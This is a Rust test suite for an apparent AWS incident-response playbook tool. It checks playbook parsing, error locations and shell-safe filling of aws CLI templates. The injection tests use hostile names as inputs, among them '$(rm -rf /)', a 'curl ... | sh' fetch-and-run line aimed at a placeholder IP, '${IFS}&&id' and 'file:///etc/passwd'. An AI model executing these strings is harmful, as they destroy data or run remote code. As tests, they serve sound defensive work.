use std::collections::BTreeSet;
use std::process::Command as Process;

use super::*;

fn builtin_playbook() -> Playbook {
    let (id, text) = builtin().next().unwrap();
    let playbook = parse(text).unwrap_or_else(|mistakes| panic!("{mistakes:#?}"));
    assert_eq!(playbook.id, id);
    playbook
}

fn file(item: &str) -> String {
    format!(
        "format = \"keytrail-playbook/1\"\nid = \"own\"\ntitle = \"Own\"\ndescription = \"d\"\n\n[[step]]\nnumber = 1\n\
         title = \"One\"\nintro = \"i\"\n\n[[step.item]]\nid = \"A-1\"\ntitle = \"t\"\nwhy = \"w\"\n{item}\n"
    )
}

fn subject(kind: SubjectKind, origin: Origin, name: &str, user: Option<&str>) -> Subject {
    Subject {
        kind,
        origin,
        name: name.to_owned(),
        arn: None,
        user: user.map(str::to_owned),
        role: None,
        region: None,
        node: None,
        is_gone: false,
    }
}

fn item(run: &str, for_each: Option<ForEach>) -> Item {
    Item {
        id: "A-1".to_owned(),
        commands: vec![CommandTemplate {
            run: run.to_owned(),
            for_each,
            note: String::new(),
        }],
        ..Item::default()
    }
}

/// What a real shell makes of a line: its words.
fn argv(line: &str) -> Vec<String> {
    let script = format!("set -f; print() {{ for w in \"$@\"; do printf '%s\\0' \"$w\"; done; }}; print {line}");
    let out = Process::new("sh").args(["-c", &script]).output().unwrap();
    assert!(out.status.success(), "{line}: {}", String::from_utf8_lossy(&out.stderr));
    let text = String::from_utf8(out.stdout).unwrap();
    text.split_terminator('\0').map(str::to_owned).collect()
}

/// The items of the specification: how many there are of each group.
fn specified() -> BTreeSet<String> {
    let groups = [("S1", 1, 21), ("S2", 1, 28), ("S3", 1, 20), ("S4", 1, 7), ("SC", 1, 8)];
    let after = [(1, 7), (11, 20), (21, 27), (31, 35), (41, 52)].map(|(from, to)| ("PA", from, to));
    let ids = groups.into_iter().chain(after);
    ids.flat_map(|(group, from, to)| (from..=to).map(move |n| format!("{group}-{n:02}")))
        .collect()
}

fn builtins() -> Vec<Playbook> {
    let parsed = builtin().map(|(id, text)| {
        let playbook = parse(text).unwrap_or_else(|mistakes| panic!("{id}: {mistakes:#?}"));
        assert_eq!(playbook.id, id);
        playbook
    });
    parsed.collect()
}

#[test]
fn the_default_playbook_holds_every_item_of_the_specification_once_and_in_order() {
    let playbook = builtin_playbook();
    let ids: Vec<String> = playbook.items().map(|item| item.id.clone()).collect();
    assert_eq!(ids.iter().cloned().collect::<BTreeSet<_>>(), specified());
    assert_eq!(ids.len(), specified().len());
    for step in &playbook.steps {
        let own = step.items.iter().filter(|item| !item.id.starts_with("SC"));
        let own: Vec<&str> = own.map(|item| item.id.as_str()).collect();
        assert!(own.is_sorted(), "step {}: {own:?}", step.number);
    }
}

#[test]
fn the_other_playbooks_hold_only_items_of_the_specification_and_bring_their_own_case_first() {
    for playbook in builtins() {
        let mut seen = BTreeSet::new();
        for item in playbook.items() {
            assert!(specified().contains(&item.id), "{}: {}", playbook.id, item.id);
            assert!(seen.insert(item.id.clone()), "{}: {} twice", playbook.id, item.id);
        }
        assert!(seen.contains("PA-01") && seen.contains("PA-52"), "{}", playbook.id);
    }
    for (id, case) in [
        ("root-access-key", "SC-01"),
        ("ses-smtp-user", "SC-02"),
        ("leaked-session", "SC-03"),
        ("reseller-customer", "SC-05"),
    ] {
        let all = builtins();
        let playbook = all.iter().find(|playbook| playbook.id == id).unwrap();
        let mut steps = playbook.steps.iter();
        assert!(steps.any(|step| step.items[0].id == case), "{id}: {case}");
        let item = playbook.items().find(|item| item.id == case).unwrap();
        assert!(item.when.is_none() && item.time_box == TimeBox::HalfHour, "{id}");
    }
}

#[test]
fn every_item_of_the_builtin_playbooks_says_why_what_to_decide_what_can_go_wrong_and_how_it_is_proved() {
    for playbook in builtins() {
        for item in playbook.items() {
            let place = format!("{} {}", playbook.id, item.id);
            for (what, text) in [
                ("why", &item.why),
                ("decide", &item.decide),
                ("watch_out", &item.watch_out),
            ] {
                assert!(text.len() > 15 && text.ends_with(['.', '?']), "{place}: {what}: {text}");
            }
            assert_eq!(
                item.check.is_none(),
                item.by_hand.len() > 15,
                "{place}: a check, or why there is none"
            );
            assert!(!item.references.is_empty(), "{place}");
        }
    }
}

#[test]
fn every_command_of_the_builtin_playbooks_is_one_shell_line_with_blanks() {
    for playbook in builtins() {
        for item in playbook.items() {
            for command in commands(item, &Names::default()) {
                assert_eq!(command.subject, None);
                assert!(!command.line.contains("{{"), "{}", command.line);
                let words = shlex::split(&command.line).unwrap_or_else(|| panic!("{}: {}", item.id, command.line));
                assert_eq!(words[0], "aws", "{}: {}", item.id, command.line);
            }
        }
    }
}

#[test]
fn json_in_the_builtin_commands_stays_json_whatever_is_filled_in() {
    let names = Names {
        now: Some("2026-05-21T13:00:00Z".to_owned()),
        subjects: vec![
            subject(SubjectKind::AccessKey, Origin::Seed, "AK\"},{\"IA", Some("a\"b'c")),
            subject(SubjectKind::User, Origin::Seed, "a\"b'c", None),
            subject(SubjectKind::Role, Origin::Created, "r\"'", None),
        ],
        ..Names::default()
    };
    let mut documents = 0;
    let playbooks = builtins();
    for item in playbooks.iter().flat_map(Playbook::items) {
        for command in commands(item, &names).iter().filter(|c| c.line.contains('{')) {
            for word in argv(&command.line) {
                let value = word
                    .split_once('=')
                    .filter(|(name, _)| name.starts_with("--"))
                    .map_or(word.as_str(), |w| w.1);
                if value.starts_with('{') {
                    documents += 1;
                    serde_json::from_str::<serde_json::Value>(value)
                        .unwrap_or_else(|e| panic!("{}: {e}: {word}", item.id));
                }
            }
        }
    }
    assert!(documents >= 4, "{documents}");
}

#[test]
fn a_command_is_printed_once_per_name_and_in_order_for_each() {
    let mut two = item(
        "aws iam update-access-key --user-name={{ user }} --access-key-id={{ key }} --status Inactive",
        Some(ForEach::AccessKey),
    );
    two.commands.push(CommandTemplate {
        run: "aws iam list-access-keys --user-name={{ user }}".to_owned(),
        for_each: Some(ForEach::AccessKey),
        note: String::new(),
    });
    let names = Names {
        subjects: vec![
            subject(
                SubjectKind::AccessKey,
                Origin::Seed,
                "AKIAIOSFODNN7EXAMPLE",
                Some("app"),
            ),
            subject(SubjectKind::User, Origin::Seed, "app", None),
            subject(
                SubjectKind::AccessKey,
                Origin::Created,
                "AKIAI44QH8DHBEXAMPLE",
                Some("evil"),
            ),
        ],
        ..Names::default()
    };
    let lines: Vec<String> = commands(&two, &names).into_iter().map(|c| c.line).collect();
    assert_eq!(
        lines,
        [
            "aws iam update-access-key --user-name=app --access-key-id=AKIAIOSFODNN7EXAMPLE --status Inactive",
            "aws iam list-access-keys --user-name=app",
            "aws iam update-access-key --user-name=evil --access-key-id=AKIAI44QH8DHBEXAMPLE --status Inactive",
            "aws iam list-access-keys --user-name=evil",
        ]
    );
}

#[test]
fn what_was_there_before_is_never_offered_for_deletion() {
    let names = Names {
        subjects: vec![
            subject(SubjectKind::User, Origin::Seed, "app", None),
            subject(SubjectKind::User, Origin::Touched, "deploy-bot", None),
            subject(SubjectKind::User, Origin::Created, "evil", None),
            subject(SubjectKind::Role, Origin::Touched, "shared", None),
            subject(SubjectKind::Role, Origin::Created, "backdoor", None),
        ],
        ..Names::default()
    };
    let playbook = builtin_playbook();
    for (id, allowed) in [("S2-27", "evil"), ("S2-28", "backdoor")] {
        let item = playbook.items().find(|item| item.id == id).unwrap();
        for command in commands(item, &names) {
            assert_eq!(command.subject.as_deref(), Some(allowed), "{}", command.line);
        }
    }
}

#[test]
fn a_script_says_which_commands_are_alternatives_and_breaks_no_line() {
    let names = Names {
        now: Some("2026-05-21T13:00:00Z".to_owned()),
        subjects: vec![subject(SubjectKind::User, Origin::Seed, "app", Some("app"))],
        ..Names::default()
    };
    let playbook = builtin_playbook();
    let lines = |id: &str| script(playbook.items().find(|item| item.id == id).unwrap(), &names);
    let (back, deny) = (lines("S1-11"), lines("S1-12"));
    assert!(
        back[0].starts_with("# only if") && back[2].starts_with("# later"),
        "{back:#?}"
    );
    assert!(
        deny[0].starts_with("# one of the two") && deny[2].starts_with("# or"),
        "{deny:#?}"
    );
    assert!(deny[3].len() > 200 && deny[3].ends_with("--user-name=app"), "{deny:#?}");
}

#[test]
fn a_comment_is_inert_also_where_a_shell_takes_it_for_a_command() {
    let evil = "the users' keys; rm -rf ~ > $HOME & `id` \"a\\b\nc\u{202e}";
    let comment = comment(evil);
    assert!(comment.starts_with("# the users\u{2019} keys"), "{comment}");
    assert_eq!(
        argv(&comment[2..]).join(" "),
        comment[2..].split_whitespace().collect::<Vec<_>>().join(" ")
    );
    assert!(
        !comment.contains(|c: char| c.is_control() || "'`\"$;&|<>~\\\u{202e}".contains(c)),
        "{comment}"
    );
}

#[test]
fn an_unknown_value_is_a_visible_blank_that_a_shell_takes_for_text() {
    let lines = commands(
        &item("aws iam get-user --user-name={{ user }}", Some(ForEach::User)),
        &Names::default(),
    );
    assert_eq!(lines[0].line, "aws iam get-user --user-name='<user>'");
    assert_eq!(argv(&lines[0].line)[3], "--user-name=<user>");
}

#[test]
fn hostile_names_are_one_inert_argument_each() {
    for name in [
        "$(rm -rf /)",
        "`reboot`",
        "; curl http://192.0.2.1/x | sh",
        "--profile evil",
        "-rf",
        "it's",
        "\"quoted\"",
        "'\"'\"'$(id)'",
        "a b\\",
        "\\' ; id #",
        "*",
        "~root",
        "!!",
        "${IFS}&&id",
        "{{ account }}",
        "{% for x in y %}",
        "naïve-名前",
    ] {
        let names = Names {
            subjects: vec![subject(SubjectKind::User, Origin::Seed, name, None)],
            ..Names::default()
        };
        let lines = commands(
            &item("aws iam get-user --user-name={{ user }} --end", Some(ForEach::User)),
            &names,
        );
        assert_eq!(
            argv(&lines[0].line)[2..],
            ["get-user", &format!("--user-name={name}"), "--end"],
            "{name}"
        );
    }
}

#[test]
fn names_that_no_quoting_makes_harmless_are_refused_and_said() {
    for name in [
        "a\nrm -rf /\n",
        "a\r",
        "nul\0",
        "\u{1b}]0;title\u{7}",
        "\u{9b}31m",
        "user\u{202e}nimda",
        "a\u{200b}dmin",
        "file:///etc/passwd",
    ] {
        let names = Names {
            subjects: vec![subject(SubjectKind::User, Origin::Seed, name, None)],
            ..Names::default()
        };
        let line = &commands(
            &item("aws iam get-user --user-name={{ user }}", Some(ForEach::User)),
            &names,
        )[0]
        .line;
        assert!(line.starts_with("aws iam get-user --user-name='<refused: "), "{line}");
        assert_eq!(argv(line).len(), 4, "{line}");
    }
}

#[test]
fn a_template_that_was_never_checked_is_not_filled_in() {
    let names = Names {
        subjects: vec![subject(SubjectKind::User, Origin::Seed, "$(id)", None)],
        ..Names::default()
    };
    for run in [
        "aws '{{ user }}'",
        "aws {{ user }}",
        "aws --x=${{ user }}",
        "aws --x=\\{{ user }}",
        "aws --x={{ nobody }}",
    ] {
        let line = &commands(&item(run, Some(ForEach::User)), &names)[0].line;
        assert!(
            line.starts_with("'<not shown: ") || line.starts_with("\"<not shown: "),
            "{line}"
        );
        assert_eq!(argv(line).len(), 1, "{line}");
    }
}

fn assert_mistake(text: &str, line: usize, column: usize, says: &str) {
    let found = &parse(text).expect_err(text)[0];
    assert!(found.message.contains(says), "{found} does not say {says:?}\n{text}");
    assert_eq!((found.line, found.column), (line, column), "{found}\n{text}");
}

#[test]
fn a_mistake_in_a_field_is_shown_at_its_line_and_column() {
    let another = |head: &str| format!("time_box = '2 h'\n{head}\ntitle = ''\nwhy = ''\ntime_box = '2 h'");
    for (item, line, column, says) in [
        (
            "time_box = '3 h'",
            15,
            12,
            "unknown variant `3 h`, expected one of `30 min`, `2 h`",
        ),
        (
            "time_box = '2 h'\ncolour = 1",
            16,
            1,
            "unknown field `colour`, expected one of",
        ),
        (
            "time_box = '2 h'\nfor_each = 'usr'",
            16,
            12,
            "unknown variant `usr`, expected one of `seed_user`",
        ),
        ("time_box = ", 15, 12, ""),
        ("", 11, 1, "missing field `time_box`"),
        (
            &another("[[step.item]]\nid = 'A-1'"),
            17,
            6,
            "item id `A-1` is used twice",
        ),
        (&another("[[step.item]]\nid = 'A 1'"), 17, 6, "letters, digits"),
        (
            "time_box = '2 h'\n[[step]]\nnumber = 1\ntitle = ''\nintro = ''\nitem = []",
            17,
            10,
            "number 1 is used twice",
        ),
    ] {
        assert_mistake(&file(item), line, column, says);
    }
    let newer = file("").replace("keytrail-playbook/1", "keytrail-playbook/9");
    assert_mistake(&newer, 1, 10, "this version reads `keytrail-playbook/1`");
    assert_mistake("id = 'x'", 1, 1, "missing field `format`");
}

#[test]
fn a_mistake_in_a_command_is_shown_at_its_place_inside_the_line() {
    for (commands, column, says) in [
        (
            "'aws --a={{ usr }}'",
            22,
            "unknown placeholder `usr`; known are account",
        ),
        ("'aws --é={{ usr }}'", 22, "unknown placeholder `usr`"),
        ("'aws --a={{ user + }}'", 22, "cannot be read"),
        ("'aws --a={{ user '", 22, "not closed by `}}`"),
        ("'aws --a={{ user | shout }}'", 14, "cannot be filled in"),
        ("'aws --user-name {{ user }}'", 30, "write `--option={{ name }}`"),
        ("'aws --a=\"{{ user }}\"'", 23, "inside quotes"),
        ("'aws --a=\"x'", 22, "this quote is not closed"),
        ("'aws {% if user %}'", 18, "only `{{ name }}`"),
        ("\"aws\\n\"", 13, "one line"),
        (
            "{ run = 'aws --a={{ usr }}', for_each = 'user' }",
            30,
            "unknown placeholder",
        ),
        ("{ run = 'aws', each = 'user' }", 28, "unknown field `each`"),
        ("7", 13, "a command line, or a table"),
        ("''", 13, "empty"),
    ] {
        assert_mistake(
            &file(&format!("time_box = '2 h'\ncommands = [{commands}]")),
            16,
            column,
            says,
        );
    }
}

#[test]
fn a_mistake_in_a_condition_a_check_or_the_evidence_is_shown_at_its_place() {
    for (item, line, column, says) in [
        (
            "when = 'trail and usr > 1'\notherwise = ''",
            16,
            19,
            "unknown condition `usr`; known are long_term_key",
        ),
        (
            "when = 'trail >'\notherwise = ''",
            16,
            9,
            "this condition cannot be read",
        ),
        (
            "when = 'trail | shout'\notherwise = ''",
            16,
            9,
            "this condition cannot be evaluated",
        ),
        ("when = 'trail'", 16, 8, "`when` needs `otherwise`"),
        ("otherwise = ''", 16, 13, "`otherwise` needs `when`"),
        (
            "check = 'inactiv'",
            16,
            9,
            "unknown variant `inactiv`, expected one of `key_is_ours`",
        ),
        (
            "check = 'inactive'",
            16,
            9,
            "needs a `for_each` that is one of seed_key, other_key, access_key",
        ),
        (
            "for_each = 'role'\ncheck = 'inactive'",
            17,
            9,
            "needs a `for_each` that is one of",
        ),
        (
            "check = { is = 'quiet', for_each = 'role' }",
            16,
            9,
            "takes no `for_each`",
        ),
        ("check = { is = 'quiet', of = 'role' }", 16, 25, "unknown field `of`"),
        ("check = 'none_seen'", 16, 9, "the calls of `evidence`"),
        (
            "evidence = ['iam:CreateUser', 'CreateUser']",
            16,
            31,
            "write `service:Name`",
        ),
        (
            "console = ['usr']",
            16,
            12,
            "unknown variant `usr`, expected one of `user`",
        ),
        ("references = ['AK1']", 16, 15, "not among `[references]`"),
    ] {
        assert_mistake(&file(&format!("time_box = '2 h'\n{item}")), line, column, says);
    }
    let extends = |id: &str, out: &str| {
        file("time_box = '2 h'").replace(
            "\n\n[[step]]",
            &format!("\nextends = '{id}'\nleave_out = ['{out}']\n[[step]]"),
        )
    };
    assert_mistake(
        &extends("nothing", "S1-01"),
        5,
        11,
        "no built-in playbook is called `nothing`",
    );
    assert_mistake(&extends(DEFAULT, "S9-01"), 6, 14, "no item `S9-01` to leave out");
    assert_eq!(parse(&extends(DEFAULT, "S1-01")).err(), None);
}

#[test]
fn a_playbook_on_top_of_another_replaces_adds_and_leaves_out() {
    let text = "format = 'keytrail-playbook/1'\nid = 'own'\ntitle = ''\ndescription = ''\n\
                extends = 'compromised-access-key'\nleave_out = ['S1-09']\n\
                [[step]]\nnumber = 1\ntitle = 'Ours'\nintro = ''\n\
                [[step.item]]\nid = 'OWN-1'\ntitle = 'New'\nwhy = ''\ntime_box = 'later'\n\
                [[step.item]]\nid = 'S1-03'\ntitle = 'Other'\nwhy = ''\ntime_box = 'later'\n";
    let own = parse(text).unwrap_or_else(|mistakes| panic!("{mistakes:#?}"));
    let base = builtin_playbook();
    let ids = |playbook: &Playbook| playbook.items().map(|item| item.id.clone()).collect::<Vec<_>>();
    let mut expected = ids(&base);
    expected.retain(|id| id != "S1-09");
    expected.insert(0, "OWN-1".to_owned());
    assert_eq!(ids(&own), expected);
    let replaced = own.items().find(|item| item.id == "S1-03").unwrap();
    assert_eq!(
        (own.id.as_str(), own.steps[0].title.as_str(), replaced.title.as_str()),
        ("own", "Ours", "Other")
    );
    assert_eq!(own.steps[1], base.steps[1]);
}

#[test]
fn every_collection_has_the_word_that_playbooks_use() {
    for (each, word) in ForEach::ALL {
        let text = file(&format!("time_box = '2 h'\nfor_each = '{word}'"));
        assert_eq!(
            parse(&text).unwrap().items().next().unwrap().for_each,
            Some(each),
            "{word}"
        );
    }
}

#[test]
fn a_page_of_the_console_is_in_the_accounts_partition_and_its_names_stay_names() {
    let names = |partition: &str, name: &str| Names {
        partition: Some(partition.to_owned()),
        subjects: vec![Subject {
            region: Some("x.evil.example/".to_owned()),
            ..subject(SubjectKind::User, Origin::Seed, name, Some(name))
        }],
        ..Names::default()
    };
    let links = |page: Page, names: &Names| {
        let subjects: Vec<&Subject> = names.subjects.iter().collect();
        page.links(names, &subjects)
            .into_iter()
            .map(|link| link.url)
            .collect::<Vec<_>>()
    };
    assert_eq!(
        links(Page::UserPermissions, &names("aws-us-gov", "a/../b?c#d e")),
        [
            "https://us-gov-west-1.console.amazonaws-us-gov.com/iam/home#/users/details/a%2F..%2Fb%3Fc%23d%20e?section=permissions"
        ]
    );
    assert_eq!(
        links(Page::Ec2, &names("aws-cn", "app")),
        ["https://cn-north-1.console.amazonaws.cn/ec2/home?region=cn-north-1#Instances:"]
    );
    assert_eq!(
        links(Page::Bills, &names("aws", "app")),
        ["https://console.aws.amazon.com/billing/home#/bills"]
    );
    assert_eq!(links(Page::Role, &names("aws", "app")), [""; 0], "nothing fills it in");
}

#[test]
fn several_mistakes_come_in_the_order_of_the_file() {
    let text = file("time_box = \"2 h\"\ncommands = ['aws --a={{ b }}', 'aws --c={{ d }} {{ user }}']");
    let columns: Vec<usize> = parse(&text).expect_err("three").iter().map(|m| m.column).collect();
    assert_eq!(columns, [22, 41, 49]);
}

#[test]
fn the_page_about_the_format_says_what_the_program_does() {
    let page = include_str!("../../playbooks/README.md");
    let example = page
        .split("```toml\n")
        .nth(1)
        .and_then(|rest| rest.split("```").next())
        .unwrap();
    assert_eq!(
        parse(example).map(|playbook| playbook.id),
        Ok("own-playbook".to_owned())
    );
    for (id, _) in builtin() {
        assert!(page.contains(&format!("| `{id}` |")), "playbook {id}");
    }
    for (name, _) in PLACEHOLDERS {
        assert!(page.contains(&format!("`{name}`")), "placeholder {name}");
    }
    for (name, _) in CONDITIONS {
        assert!(page.contains(&format!("`{name}`")), "condition {name}");
    }
    let refusals = [
        "time_box = '?'",
        "time_box = 'later'\nfor_each = '?'",
        "time_box = 'later'\ncheck = '?'",
        "time_box = 'later'\nconsole = ['?']",
    ];
    let refused: String = refusals
        .map(|item| parse(&file(item)).expect_err(item)[0].message.clone())
        .concat();
    for word in refused.split('`').skip(1).step_by(2).filter(|word| *word != "?") {
        assert!(page.contains(&format!("`{word}`")), "{word}");
    }
}
